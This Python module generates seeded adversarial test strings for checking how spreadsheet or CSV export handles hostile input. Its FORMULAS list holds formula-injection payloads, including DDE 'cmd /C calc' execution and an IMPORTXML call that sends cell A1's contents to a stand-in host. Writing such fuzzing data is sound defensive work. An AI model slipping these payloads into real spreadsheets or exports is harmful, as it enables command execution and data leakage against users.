"""Texts nobody should type and somebody will: as many as wanted, the same for the same seed."""

import json
from collections.abc import Callable
from pathlib import Path
from random import Random

NAUGHTY: list[str] = json.loads(
    (Path(__file__).parents[1] / "browser" / "naughty" / "blns.json").read_text("utf-8")
)
FORMULAS = (
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org","点我")',
    '=WEBSERVICE("http://example.org")',
    '=DDE("cmd";"/C calc";"x")',
    "＝1+1",
    "＋1",
    "－1",
    "＠A",
    "{=1+1}",
    '=1+1";=1+1',
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    "-2+3+cmd|' /C calc'!A0",
)
BEFORE = (
    "",
    "",
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\u00a0",
    "\u3000",
    "\u200b",
    "\ufeff",
    "'",
    "''",
    "\u2060",
    ";",
    ",",
)
IDS = (
    "0012",
    "1E5",
    "1e-7",
    "007",
    "110101199001011234",
    "330302006000",
    "00",
    "+8613800000000",
    "1,234",
    "0x1F",
)
DAYS = (
    "2026-11-21",
    "1/2",
    "3-4",
    "2026年11月21日",
    "MARCH1",
    "SEPT2",
    "12:30",
    "40664",
    "1900-02-29",
    "2月30日",
)
BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
MARKS = "\u0300\u0301\u0316\u0334\u0489\u20dd\ufe0f"
CONTROLS = "".join(map(chr, (*range(32), 0x7F, *range(0x80, 0xA0))))
BROKEN = "\ud800\udbff\udc00\udfff\ufffe\uffff\U0001fffe\U0010ffff"
WORDS = (
    "隐患",
    "五马街道",
    "晨岚模具厂",
    "𠮷野",
    "🏗️👷🏽‍♀️",
    "Ω≈ç√",
    "田中さん",
    "<b>&amp;</b>",
    "]]>",
    "{{x}}",
    "%s",
    "#let x",
)
LONGEST = 40_000


def _formula(random: Random) -> str:
    return random.choice(BEFORE) + random.choice(FORMULAS) + random.choice(("", "", str(random.random())))


def _looks_like(random: Random) -> str:
    return random.choice(IDS + DAYS) + random.choice(("", "", " ", "\t"))


def _poisoned(random: Random) -> str:
    signs = [random.choice(CONTROLS + BROKEN) for _ in range(random.randrange(1, 4))]
    return random.choice(WORDS) + "".join(signs) + random.choice(WORDS)


def _turned(random: Random) -> str:
    return "".join(random.choice(BIDI) + random.choice(WORDS) for _ in range(random.randrange(1, 4)))


def _stacked(random: Random) -> str:
    return random.choice("隐aé") + "".join(random.choice(MARKS) for _ in range(random.randrange(1, 60)))


def _anything(random: Random) -> str:
    return "".join(chr(random.randrange(0x110000)) for _ in range(random.randrange(1, 12)))


def _long(random: Random) -> str:
    return random.choice((*WORDS, "=1+1")) * random.choice((50, 200))


def _escaped(random: Random) -> str:
    return random.choice(
        ("_x0041_", "_x000D_", "&#x3D;1", "\\u003d1", "%3D1", "\\=1", "$a$", "*_`#[]", "\r\n=1")
    )


MAKERS: tuple[Callable[[Random], str], ...] = (
    *(_formula, _formula, _looks_like, _poisoned, _turned, _stacked, _anything, _long, _escaped),
)


def texts(count: int, seed: int = 0) -> list[str]:
    """The naughty strings first, two texts longer than a cell, then kinds in turn."""
    random = Random(seed)
    first = [*FORMULAS, *IDS, *DAYS, "=" * LONGEST, "隐" * LONGEST]
    naughty = NAUGHTY[: max(0, count - len(first))]
    rest = max(0, count - len(first) - len(naughty))
    return [*first, *naughty, *(MAKERS[n % len(MAKERS)](random) for n in range(rest))][:count]
